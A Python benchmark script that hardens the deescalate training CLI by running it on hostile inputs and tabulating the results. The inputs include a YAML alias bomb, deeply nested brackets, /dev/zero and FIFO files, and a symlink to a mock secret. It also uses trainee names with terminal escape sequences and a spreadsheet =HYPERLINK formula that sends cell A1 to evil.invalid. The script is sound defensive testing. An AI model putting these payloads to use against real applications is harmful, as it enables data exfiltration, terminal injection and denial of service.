"""Bad-input matrix: how `deescalate` ends on each hostile input of issue 13 (hardening).

Each case builds its inputs in a fresh temporary folder (library files, scripts, databases)
and runs the real command, `python -m trainer ...`, as a subprocess with the lexical grader,
an isolated HOME and data folder, 2 GiB of address space (RLIMIT_AS) and a hang guard of
20 s wall clock. One table row per case shows:

* the exit code (``hung`` when the guard killed the run),
* the child's CPU seconds (user + system, the delta of getrusage(RUSAGE_CHILDREN) around the
  run, so it counts the interpreter start-up too) and its wall-clock seconds,
* whether a Python traceback appeared on stdout or stderr,
* a check on the data where it must stay unchanged (database absent, sha256 of the file
  before and after, row counts) or on what reaches the terminal (control characters,
  spreadsheet formulas, a private file's content),
* the first non-empty line the user sees (stderr first when the run failed, stdout first
  when it succeeded), cut to about 90 characters, control characters shown escaped.

The ``flag`` column marks a row that breaks the issue's bounds: a run that should
fail but exits 0 (or should succeed but does not), a traceback, a hang, more than 2 s of
CPU, or a failed data check (or a case whose own set-up broke). Prints figures only; exits 0
whatever they are. Library cases start from a copy of tests/fixtures/library, and every run goes
through the same runner as the hardening tests (tests/hardening_support.py), so the figures and
the tests measure alike.

Run: HF_HUB_OFFLINE=1 .venv/bin/python benchmarks/bad_input_matrix.py
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import platform
import shutil
import sys
import tempfile
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests"))

from hardening_support import (  # noqa: E402
    CPU_LIMIT,
    HANG_AFTER,
    MEMORY_LIMIT,
    Run,
    alias_bomb,
    deescalate,
)

FIXTURE_LIBRARY = ROOT / "tests" / "fixtures" / "library"
"""A one-persona, one-scenario library."""
SCENARIO = "fixture-billing"

FIRST_LINE_WIDTH = 90
SEED_MAX = 2**63 - 1

SKILLED = (
    "I'm so sorry, Ms Fixture. Being charged twice sounds really frustrating. "
    "What can I do to put this right for you?\n"
    "That makes complete sense. Would it help if I refund the duplicate payment today?\n"
    "/end\n"
)
TITLE = "\x1b]0;pwned\x07"
"""Sets the terminal's window title and rings the bell."""
HYPERLINK = '=HYPERLINK("https://evil.invalid/?"&A1,"click")'
NAMES = [HYPERLINK + TITLE, "+1-2", "@SUM(A1:A9)", "ana\u202ereversed"]
CONTROL_CATEGORIES = {"Cc", "Cf"}


# Runner -------------------------------------------------------------------------------------


class Runner:
    """Runs `python -m trainer` with a private data folder under `base`."""

    def __init__(self, base: Path) -> None:
        self.home = base / "home"
        self.data = base / "home" / "deescalate-data"
        self.home.mkdir()
        # Laid over the caller's environment: an empty DEESCALATE_LIBRARY or DEESCALATE_DB
        # means none, so the user's own library and database stay out of every case.
        self.env: dict[str, str] = dict(
            DEESCALATE_LIBRARY="",
            DEESCALATE_DB="",
            HOME=str(self.home),
            DEESCALATE_HOME=str(self.data),
            DEESCALATE_GRADER="lexical",
            HF_HUB_OFFLINE="1",
            TRANSFORMERS_OFFLINE="1",
            PYTHONDONTWRITEBYTECODE="1",
        )
        # Root ignores file modes; to meet a read-only database as anyone would, the
        # reading commands then run without the capabilities that override them.
        self.unprivileged: list[str] = []
        if os.geteuid() == 0 and shutil.which("setpriv"):
            self.unprivileged = [
                "setpriv",
                "--bounding-set=-dac_override,-dac_read_search,-fowner",
                "--",
            ]

    def __call__(
        self,
        *args: str | bytes,
        stdin: bytes = b"",
        cwd: Path,
        prefix: list[str] | None = None,
    ) -> Run:
        return deescalate(*args, stdin=stdin, cwd=cwd, env=self.env, prefix=prefix)


# Helpers ------------------------------------------------------------------------------------


def escaped(text: str) -> str:
    """Control and format characters as Python escapes (\\x1b, \\u202e), the rest as is."""
    return "".join(
        repr(ch)[1:-1] if unicodedata.category(ch) in CONTROL_CATEGORIES else ch for ch in text
    )


def controls(text: str) -> list[str]:
    """Control characters in `text`, other than newline and tab."""
    return sorted(
        {
            escaped(ch)
            for ch in text
            if unicodedata.category(ch) in CONTROL_CATEGORIES and ch not in "\n\t"
        }
    )


def no_controls(run: Run) -> str:
    found = controls(run.output)
    return "no control chars" if not found else "FAIL controls " + " ".join(found)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def sqlite_url(path: Path) -> str:
    return f"sqlite:///{path}"


def library(base: Path) -> Path:
    """A copy of the fixture library, the working directory for library cases."""
    lib = base / "lib"
    shutil.copytree(FIXTURE_LIBRARY, lib)
    return lib


def empty_library(base: Path) -> Path:
    lib = base / "lib"
    (lib / "personas").mkdir(parents=True)
    return lib


def script(base: Path, text: str, name: str = "call.txt") -> Path:
    path = base / name
    path.write_text(text, encoding="utf-8")
    return path


def play_args(lib: Path, db: str, call: Path, *extra: str) -> list[str]:
    return [
        "play",
        "--library",
        str(lib),
        "--scenario",
        SCENARIO,
        "--db",
        db,
        "--script",
        str(call),
        "--json",
        *extra,
    ]


def db_absent(db: Path) -> str:
    return "db not created" if not db.exists() else "FAIL db file created"


def history(runner: Runner, db: Path, cwd: Path, prefix: list[str] | None = None) -> list[dict]:
    run = runner("history", "--db", sqlite_url(db), "--json", cwd=cwd, prefix=prefix)
    if run.code != 0:
        raise RuntimeError(f"history failed: {run.output[-500:]}")
    rows: list[dict] = json.loads(run.stdout)
    return rows


# Cases --------------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    expect: str
    """"fail" (a clean refusal, exit non-zero) or "ok" (exit 0)."""
    body: Callable[[Runner, Path], tuple[Run, str]]
    """Builds the inputs in the folder, runs the command; returns the run and the check."""


@dataclass
class Row:
    case: Case
    run: Run
    check: str
    flags: list[str] = field(default_factory=list)


def c_alias_bomb_check(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    bomb = lib / "personas" / "bomb.yaml"
    bomb.write_text(alias_bomb(), encoding="utf-8")
    return runner("check", str(bomb), cwd=lib), f"{bomb.stat().st_size} B file"


def c_alias_bomb_play(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    (lib / "personas" / "bomb.yaml").write_text(alias_bomb(), encoding="utf-8")
    return runner("play", "--no-save", "--library", str(lib), cwd=lib), ""


def c_bracket_400k(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    deep = lib / "personas" / "deep.yaml"
    deep.write_text("[" * 200_000 + "]" * 200_000 + "\n", encoding="utf-8")
    return runner("check", str(deep), cwd=lib), f"{deep.stat().st_size:,} B file"


def c_deep_nesting(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    deep = lib / "personas" / "deep.yaml"
    deep.write_text("[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    return runner("check", str(deep), cwd=lib), f"{deep.stat().st_size:,} B file"


def c_dev_zero(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    return runner("check", "/dev/zero", cwd=lib), ""


def c_dev_zero_linked(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    (lib / "personas" / "zero.yaml").symlink_to("/dev/zero")
    return runner("check", "--library", str(lib), cwd=lib), ""


def c_fifo(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    fifo = lib / "personas" / "pipe.yaml"
    os.mkfifo(fifo)
    return runner("check", str(fifo), cwd=lib), ""


def c_fifo_library(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    os.mkfifo(lib / "personas" / "pipe.yaml")
    return runner("check", "--library", str(lib), cwd=lib), ""


def c_symlink_outside(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = empty_library(base)
    secret = base / "shadow"
    secret.write_text("root-secret-key: $6$hash-that-must-not-leak\n", encoding="utf-8")
    (lib / "personas" / "shadow.yaml").symlink_to(secret)
    run = runner("check", "--library", str(lib), cwd=lib)
    leaked = "hash-that" in run.output or str(secret) in run.output
    return run, "FAIL secret shown" if leaked else "secret not shown"


def c_grade_stdin_utf8(runner: Runner, base: Path) -> tuple[Run, str]:
    lines = [
        json.dumps({"id": i, "reply": "I'm so sorry. What can I do?"}).encode() + b"\n"
        for i in range(1, 202)
    ]
    lines[99] = b'{"id": 100, "reply": "I\xff am so sorry"}\n'
    run = runner("grade", stdin=b"".join(lines), cwd=base)
    rows = [json.loads(line) for line in run.stdout.splitlines() if line.strip()]
    graded = sum(1 for r in rows if "id" in r)
    ok = len(rows) == 201 and graded == 200
    return run, f"{graded}/200 good lines graded" + ("" if ok else " FAIL")


def c_grade_text_utf8(runner: Runner, base: Path) -> tuple[Run, str]:
    run = runner("grade", "--text", b"I\xff am so sorry", cwd=base)
    return run, "stdout empty" if run.stdout == "" else "FAIL stdout not empty"


def c_grade_1e999(runner: Runner, base: Path) -> tuple[Run, str]:
    stdin = b'{"id": 1e999, "reply": "Sorry."}\n{"id": 2, "reply": "Sorry."}\n'
    run = runner("grade", stdin=stdin, cwd=base)

    def refuse(name: str) -> None:
        raise ValueError(name)

    try:
        rows = [json.loads(line, parse_constant=refuse) for line in run.stdout.splitlines()]
        check = f"strict JSON out, {len(rows)} rows"
    except ValueError as exc:
        check = f"FAIL output not strict JSON ({exc})"
    return run, check


def c_seed_2_63(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = library(base)
    db = base / "calls.db"
    call = script(base, SKILLED)
    run = runner(*play_args(lib, sqlite_url(db), call, "--seed", str(2**63)), cwd=base)
    return run, db_absent(db)


def _seed_saved(runner: Runner, base: Path, seed: int) -> tuple[Run, str]:
    lib = library(base)
    db = base / "calls.db"
    call = script(base, SKILLED)
    run = runner(*play_args(lib, sqlite_url(db), call, "--seed", str(seed)), cwd=base)
    if run.code != 0:
        return run, "no call saved"
    seeds = [row["seed"] for row in history(runner, db, base)]
    return run, f"seed saved {seeds[0]}" if seeds == [seed] else f"FAIL saved seeds {seeds}"


def c_seed_2_31(runner: Runner, base: Path) -> tuple[Run, str]:
    return _seed_saved(runner, base, 2**31 + 5)


def c_seed_max(runner: Runner, base: Path) -> tuple[Run, str]:
    return _seed_saved(runner, base, SEED_MAX)


def c_reply_nul(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = library(base)
    db = base / "calls.db"
    url = sqlite_url(db)
    # An existing database with one call: the refused call must add no row to it.
    first = runner(*play_args(lib, url, script(base, SKILLED, "skilled.txt")), cwd=base)
    if first.code != 0:
        return first, "FAIL setup call did not play"
    before = len(history(runner, db, base))
    call = script(base, "I'm so sorry.\nWhat can I\x00 do?\n/end\n")
    run = runner(*play_args(lib, url, call), cwd=base)
    after = len(history(runner, db, base))
    return run, f"calls {before}->{after}" + ("" if before == after else " FAIL")


def _hold(runner: Runner, base: Path, seconds: str) -> tuple[Run, str]:
    lib = library(base)
    db = base / "calls.db"
    call = script(base, f"I'm so sorry about this.\n/hold {seconds} checking\n/back\n")
    return runner(*play_args(lib, sqlite_url(db), call), cwd=base), db_absent(db)


def c_hold_0(runner: Runner, base: Path) -> tuple[Run, str]:
    return _hold(runner, base, "0")


def c_hold_huge(runner: Runner, base: Path) -> tuple[Run, str]:
    return _hold(runner, base, "99999999999999999999999")


def _wide_slot(base: Path) -> Path:
    lib = library(base)
    persona = lib / "personas" / "fixture-base.yaml"
    text = persona.read_text(encoding="utf-8")
    old = "I can't believe {company} has"
    if old not in text:
        raise RuntimeError(f"{persona} no longer holds {old!r}")
    persona.write_text(
        text.replace(old, "I can't believe {company:>30000000000} has"), encoding="utf-8"
    )
    return lib


def c_wide_slot_check(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = _wide_slot(base)
    return runner("check", "--library", str(lib), cwd=lib), ""


def c_wide_slot_play(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = _wide_slot(base)
    db = base / "calls.db"
    call = script(base, SKILLED)
    return runner(*play_args(lib, sqlite_url(db), call), cwd=lib), db_absent(db)


class EscapeDb:
    """One database of calls by trainees whose names carry ESC, BEL, RLO and formulas,
    shared by the output cases (built once, on first use)."""

    def __init__(self) -> None:
        self.path: Path | None = None
        self.first_id = ""

    def get(self, runner: Runner, base: Path) -> Path:
        if self.path is None:
            folder = base.parent / "escape-db"
            folder.mkdir()
            lib = library(folder)
            self.path = folder / "calls.db"
            call = script(
                folder,
                "I'm sorry\x1b[2J\x1b[H, what can I do?\x07\nFine.\x1b[31m Shall I refund it?\n/end\n",
            )
            for name in NAMES:
                run = runner(
                    *play_args(lib, sqlite_url(self.path), call, "--trainee", name), cwd=folder
                )
                if run.code != 0:
                    raise RuntimeError(f"setup play for {name!r} failed: {run.output[-500:]}")
            rows = history(runner, self.path, folder)
            self.first_id = next(r["id"] for r in rows if r["trainee"] == NAMES[0])
        return self.path


ESCAPE_DB = EscapeDb()


def c_esc_history(runner: Runner, base: Path) -> tuple[Run, str]:
    db = ESCAPE_DB.get(runner, base)
    run = runner("history", "--db", sqlite_url(db), cwd=base)
    return run, no_controls(run)


def c_esc_progress(runner: Runner, base: Path) -> tuple[Run, str]:
    db = ESCAPE_DB.get(runner, base)
    run = runner("progress", "--db", sqlite_url(db), "--trainee", NAMES[0], cwd=base)
    return run, no_controls(run)


def c_esc_report(runner: Runner, base: Path) -> tuple[Run, str]:
    db = ESCAPE_DB.get(runner, base)
    run = runner("report", ESCAPE_DB.first_id, "--db", sqlite_url(db), "--format", "md", cwd=base)
    return run, no_controls(run)


def c_esc_cohort_md(runner: Runner, base: Path) -> tuple[Run, str]:
    db = ESCAPE_DB.get(runner, base)
    run = runner("report", "--cohort", "--db", sqlite_url(db), "--format", "md", cwd=base)
    return run, no_controls(run)


def c_esc_cohort_csv(runner: Runner, base: Path) -> tuple[Run, str]:
    db = ESCAPE_DB.get(runner, base)
    run = runner("report", "--cohort", "--db", sqlite_url(db), "--format", "csv", cwd=base)
    rows = list(csv.reader(io.StringIO(run.stdout)))
    formulas = [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))]
    check = no_controls(run)
    check += "; no formula cells" if not formulas else f"; FAIL formula {escaped(formulas[0])}"
    return run, check


def c_db_missing_folder(runner: Runner, base: Path) -> tuple[Run, str]:
    lib = library(base)
    folder = base / "no" / "such" / "folder"
    call = script(base, SKILLED)
    run = runner(*play_args(lib, sqlite_url(folder / "calls.db"), call), cwd=base)
    made = (base / "no").exists()
    return run, "FAIL folder created" if made else "folder not created"


def _memory(runner: Runner, base: Path, url: str) -> tuple[Run, str]:
    lib = library(base)
    call = script(base, SKILLED)
    run = runner(*play_args(lib, url, call), cwd=base)
    stray = sorted(p.name for p in base.iterdir() if p.name not in {"lib", "call.txt", "home"})
    made = runner.data.exists()
    check = "nothing written" if not stray and not made else f"FAIL wrote {stray or [runner.data]}"
    if "kept in memory only" in run.stderr:
        check += "; memory notice"
    return run, check


def c_db_sqlite_memory(runner: Runner, base: Path) -> tuple[Run, str]:
    return _memory(runner, base, "sqlite://")


def c_db_memory(runner: Runner, base: Path) -> tuple[Run, str]:
    return _memory(runner, base, ":memory:")


class ReadOnlyDb:
    """A database with one call by "ana", read-only along with its folder."""

    def __init__(self) -> None:
        self.path: Path | None = None
        self.call_id = ""

    def get(self, runner: Runner, base: Path) -> Path:
        if self.path is None:
            folder = base.parent / "share"
            folder.mkdir()
            work = base.parent / "ro-work"
            work.mkdir()
            lib = library(work)
            self.path = folder / "calls.db"
            call = script(work, SKILLED)
            run = runner(*play_args(lib, sqlite_url(self.path), call, "--trainee", "ana"), cwd=work)
            if run.code != 0:
                raise RuntimeError(f"setup play failed: {run.output[-500:]}")
            self.call_id = history(runner, self.path, work)[0]["id"]
            self.path.chmod(0o444)
            folder.chmod(0o555)
        return self.path

    def restore(self) -> None:
        if self.path is not None:
            self.path.parent.chmod(0o755)
            self.path.chmod(0o644)


READ_ONLY_DB = ReadOnlyDb()


def _read_only(runner: Runner, base: Path, *args: str) -> tuple[Run, str]:
    db = READ_ONLY_DB.get(runner, base)
    before = sha256(db)
    files_before = sorted(p.name for p in db.parent.iterdir())
    full = [a.replace("{id}", READ_ONLY_DB.call_id) for a in args]
    run = runner(*full, "--db", sqlite_url(db), cwd=base, prefix=runner.unprivileged)
    same = sha256(db) == before and sorted(p.name for p in db.parent.iterdir()) == files_before
    check = f"sha256 {before[:8]} unchanged" if same else "FAIL database or folder changed"
    if os.geteuid() == 0 and not runner.unprivileged:
        check += " (root, no setpriv: modes not enforced)"
    return run, check


def c_ro_history(runner: Runner, base: Path) -> tuple[Run, str]:
    return _read_only(runner, base, "history")


def c_ro_progress(runner: Runner, base: Path) -> tuple[Run, str]:
    return _read_only(runner, base, "progress", "--trainee", "ana")


def c_ro_report(runner: Runner, base: Path) -> tuple[Run, str]:
    return _read_only(runner, base, "report", "{id}")


def c_ro_cohort(runner: Runner, base: Path) -> tuple[Run, str]:
    return _read_only(runner, base, "report", "--cohort", "--format", "csv")


def c_ro_delete(runner: Runner, base: Path) -> tuple[Run, str]:
    return _read_only(runner, base, "delete", "--trainee", "ana", "--all")


CASES = [
    Case("alias bomb: check FILE", "fail", c_alias_bomb_check),
    Case("alias bomb in --library: play", "fail", c_alias_bomb_play),
    Case("400 KB [[[...]]] file: check", "fail", c_bracket_400k),
    Case("deep nesting 100k [: check", "fail", c_deep_nesting),
    Case("/dev/zero: check", "fail", c_dev_zero),
    Case("/dev/zero linked into library", "fail", c_dev_zero_linked),
    Case("FIFO: check FILE", "fail", c_fifo),
    Case("FIFO in --library: check", "fail", c_fifo_library),
    Case("symlink to file outside library", "fail", c_symlink_outside),
    Case("grade stdin: 0xff in line 100/201", "fail", c_grade_stdin_utf8),
    Case("grade --text with 0xff byte", "fail", c_grade_text_utf8),
    Case('grade stdin: {"id": 1e999}', "fail", c_grade_1e999),
    Case("play --seed 2**63", "fail", c_seed_2_63),
    Case("play --seed 2**31+5 (saved)", "ok", c_seed_2_31),
    Case("play --seed 2**63-1 (saved)", "ok", c_seed_max),
    Case("script reply with NUL", "fail", c_reply_nul),
    Case("script /hold 0", "fail", c_hold_0),
    Case("script /hold 99999999999999999999999", "fail", c_hold_huge),
    Case("slot {company:>30000000000}: check", "fail", c_wide_slot_check),
    Case("slot {company:>30000000000}: play", "fail", c_wide_slot_play),
    Case("ESC/BEL names: history", "ok", c_esc_history),
    Case("ESC/BEL names: progress --trainee", "ok", c_esc_progress),
    Case("ESC/BEL names: report ID (md)", "ok", c_esc_report),
    Case("ESC/BEL names: cohort md", "ok", c_esc_cohort_md),
    Case("=HYPERLINK name: cohort csv", "ok", c_esc_cohort_csv),
    Case("--db in missing folder outside data", "fail", c_db_missing_folder),
    Case("--db sqlite://", "ok", c_db_sqlite_memory),
    Case("--db :memory:", "ok", c_db_memory),
    Case("read-only db: history", "ok", c_ro_history),
    Case("read-only db: progress", "ok", c_ro_progress),
    Case("read-only db: report ID", "ok", c_ro_report),
    Case("read-only db: cohort csv", "ok", c_ro_cohort),
    Case("read-only db: delete (a write)", "fail", c_ro_delete),
]


# Report -------------------------------------------------------------------------------------


def machine() -> str:
    cpu = platform.processor() or platform.machine()
    try:
        for line in Path("/proc/cpuinfo").read_text(encoding="utf-8").splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    return f"{platform.node()}: {platform.platform()}, {cpu}, {os.cpu_count()} CPU(s)"


def flags_for(case: Case, run: Run, check: str) -> list[str]:
    flags = []
    if run.code is None:
        flags.append("HANG")
    elif case.expect == "fail" and run.code == 0:
        flags.append("EXIT0")
    elif case.expect == "ok" and run.code != 0:
        flags.append("FAILED")
    if run.traceback:
        flags.append("TRACEBACK")
    if run.cpu > CPU_LIMIT:
        flags.append("CPU>2s")
    if "FAIL" in check:
        flags.append("CHECK")
    return flags


def main() -> int:
    print("deescalate bad-input matrix (issue 13)")
    print(f"date: {datetime.now(UTC):%Y-%m-%d %H:%M UTC}")
    print(f"machine: {machine()}")
    print(f"python: {sys.executable} {platform.python_version()}")
    print("load average (1/5/15 min) at start: {:.2f} {:.2f} {:.2f}".format(*os.getloadavg()))
    print(
        "each case: `python -m trainer ...` in a subprocess, DEESCALATE_GRADER=lexical, private "
        "HOME and data folder,\n"
        f"  RLIMIT_AS {MEMORY_LIMIT // 1024**3} GiB, killed as hung after {HANG_AFTER:.0f} s "
        "wall. CPU s = child user+system time (getrusage(RUSAGE_CHILDREN) delta,\n"
        "  interpreter start-up included); wall s = monotonic clock around the run. "
        "first line: stderr first on failure, stdout first on success;\n"
        "  $TMP is this run's temporary folder."
    )

    rows: list[Row] = []
    with tempfile.TemporaryDirectory(prefix="bad-input-matrix-") as tmp:
        top = Path(tmp)
        temp = str(top)
        runner = Runner(top)
        if runner.unprivileged:
            how = " ".join(runner.unprivileged[:-1])
            print(f"  running as root: the read-only cases run under `{how}` (modes enforced)")
        print()
        try:
            for number, case in enumerate(CASES, 1):
                base = top / f"case{number:02d}"
                base.mkdir()
                shutil.rmtree(runner.data, ignore_errors=True)
                try:
                    run, check = case.body(runner, base)
                except (OSError, RuntimeError, ValueError, KeyError, StopIteration) as exc:
                    run = Run(-1, "", f"set-up error: {exc}", 0.0, 0.0)
                    check = f"FAIL set-up {type(exc).__name__}"
                rows.append(Row(case, run, check, flags_for(case, run, check)))
        finally:
            READ_ONLY_DB.restore()

    header = (
        f"{'#':>2}  {'case':<38} {'want':<4} {'exit':>4} {'CPU s':>5} {'wall s':>6} "
        f"{'tb':<3} {'flag':<10} {'data / output check':<34} first line"
    )
    print(header)
    print("-" * len(header))
    for number, row in enumerate(rows, 1):
        run = row.run
        code = "hung" if run.code is None else str(run.code)
        line = escaped(run.first_line().replace(temp, "$TMP"))
        if len(line) > FIRST_LINE_WIDTH:
            line = line[: FIRST_LINE_WIDTH - 3] + "..."
        print(
            f"{number:>2}  {row.case.name:<38} {row.case.expect:<4} {code:>4} {run.cpu:>5.2f} "
            f"{run.wall:>6.2f} {'yes' if run.traceback else 'no':<3} "
            f"{','.join(row.flags) or '-':<10} {row.check:<34} {line}"
        )
    flagged = [(n, r) for n, r in enumerate(rows, 1) if r.flags]
    print()
    cpus = [r.run.cpu for r in rows]
    print(
        f"{len(rows)} cases; CPU s min {min(cpus):.2f} / max {max(cpus):.2f}; "
        f"{len(flagged)} flagged"
    )
    for number, row in flagged:
        print(f"  #{number} {row.case.name}: {', '.join(row.flags)}")
        tail = escaped(row.run.output.strip()[-600:].replace(temp, "$TMP"))
        print("    output tail: " + tail.replace("\n", "\n    "))
    return 0


if __name__ == "__main__":
    sys.exit(main())
